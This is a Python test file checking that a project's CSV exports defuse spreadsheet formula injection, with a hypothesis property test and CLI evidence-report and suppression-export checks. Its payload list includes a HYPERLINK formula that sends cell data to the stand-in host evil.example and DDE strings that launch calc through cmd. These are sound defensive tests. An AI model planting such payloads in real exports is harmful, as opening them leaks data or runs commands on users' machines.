"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from optout_local import cli, notice_cli
from optout_local.csv_export import ExportWriter, neutralise

HOSTILE = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"x")', id="equals"),
    pytest.param("+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_leading_cell_gets_a_quote_in_front(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param("u-1", id="hyphen-inside"),
        pytest.param("2026-11-21T14:05:00+00:00", id="timestamp"),
        pytest.param("a=b", id="equals-inside"),
        pytest.param("", id="empty"),
        pytest.param("'already quoted", id="quote"),
        pytest.param("0123abcd" * 8, id="address-key"),
        pytest.param("smtp; 550 5.1.1 user unknown", id="bounce-reason"),
    ],
)
def test_other_cells_are_written_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_none_is_an_empty_cell() -> None:
    assert neutralise(None) == ""


@given(st.text())
def test_what_a_spreadsheet_reads_never_starts_a_formula_and_keeps_the_text(cell: str) -> None:
    # Given any cell, written and read back as CSV
    handle = io.StringIO()
    ExportWriter(handle, fieldnames=["c"]).writerow({"c": cell})
    [[read]] = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    # Then it never starts with a formula character, and it is the text itself, quoted at most once
    assert not read.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read in (cell, "'" + cell)


def test_writerows_is_neutralised_as_writerow_is() -> None:
    handle = io.StringIO()
    writer = ExportWriter(handle, fieldnames=["a", "b"])
    writer.writerows([{"a": "=1", "b": "ok"}, {"a": "@x", "b": "-1"}])
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [["'=1", "ok"], ["'@x", "'-1"]]


# --- every writer ----------------------------------------------------------------------------------


class _Admin:
    def ok(self, method: str, path: str, **kwargs: Any) -> dict[str, Any]:
        if path.endswith("/deliveries"):
            return {
                "items": [
                    {
                        "recipient_id": '=HYPERLINK("http://evil.example")',
                        "channel": "email",
                        "decision": "failed",
                        "reason": "@SUM(1+1)",
                        "at": "2026-11-21T14:05:00+00:00",
                    },
                    {
                        "recipient_id": "u-2",
                        "channel": "sms",
                        "decision": "sent",
                        "provider_message_id": "+m2",
                        "at": "2026-11-21T14:05:01+00:00",
                    },
                ],
                "next_token": None,
            }
        return {"id": "ntc_1", "status": "complete_with_failures", "counts": {}}


class _NoticeTarget:
    def admin(self) -> _Admin:
        return _Admin()


def test_the_evidence_report_neutralises_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Given delivery rows whose recipient id (from a manifest) and reason start like formulas
    monkeypatch.setattr(notice_cli, "_target", lambda *args: _NoticeTarget())
    out = tmp_path / "report.csv"
    # When the evidence report is written
    result = CliRunner().invoke(notice_cli.notice, ["report", "ntc_1", "--out", str(out)])
    # Then those cells read as text, and every other cell as it was
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows[0]["recipient_id"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["reason"] == "'@SUM(1+1)"
    assert rows[1]["recipient_id"] == "u-2" and rows[1]["provider_message_id"] == "'+m2"
    assert rows[1]["at"] == "2026-11-21T14:05:01+00:00"


class _ExportAdmin:
    """The export route, two pages: the CLI follows next_token and writes every row once."""

    def __init__(self, rows: list[dict[str, str]]) -> None:
        self.rows = rows
        self.queries: list[dict[str, Any]] = []

    def ok(self, method: str, path: str, **kwargs: Any) -> dict[str, Any]:
        assert (method, path) == ("GET", "/admin/suppressions/export")
        query = dict(kwargs["query"])
        self.queries.append(query)
        if "next_token" not in query:
            return {"items": self.rows[:1], "next_token": "page-2"}
        return {"items": self.rows[1:], "next_token": None}


class _StackTarget:
    def __init__(self, admin: _ExportAdmin) -> None:
        self._admin = admin

    def admin(self) -> _ExportAdmin:
        return self._admin


def test_the_suppression_export_neutralises_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Given a suppression whose reason (an admin's, a bounce's) starts like a formula, on the first of two pages
    row = {
        "address_key": "ab" * 32, "channel": "email", "scopes": "channel", "blocked_reason": "=1+1",
        "blocked_source": "-admin", "blocked_at": "2026-11-21T14:05:00+00:00", "updated_at": "",
    }  # fmt: skip
    second = {**row, "address_key": "cd" * 32, "blocked_reason": "bounce", "blocked_source": "import"}
    admin = _ExportAdmin([row, second])
    monkeypatch.setattr(cli, "resolve_target", lambda *args: _StackTarget(admin))
    out = tmp_path / "suppressions.csv"
    # When the list is exported
    result = CliRunner().invoke(cli.main, ["suppression", "export", "--out", str(out)])
    # Then both pages were read, the formula cells read as text and the rest as they were
    assert result.exit_code == 0, result.output
    assert admin.queries == [{"limit": 500}, {"limit": 500, "next_token": "page-2"}]
    assert result.output == f"2 suppressions written to {out}\n"
    first, last = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert first == {**row, "blocked_reason": "'=1+1", "blocked_source": "'-admin"}
    assert last == second
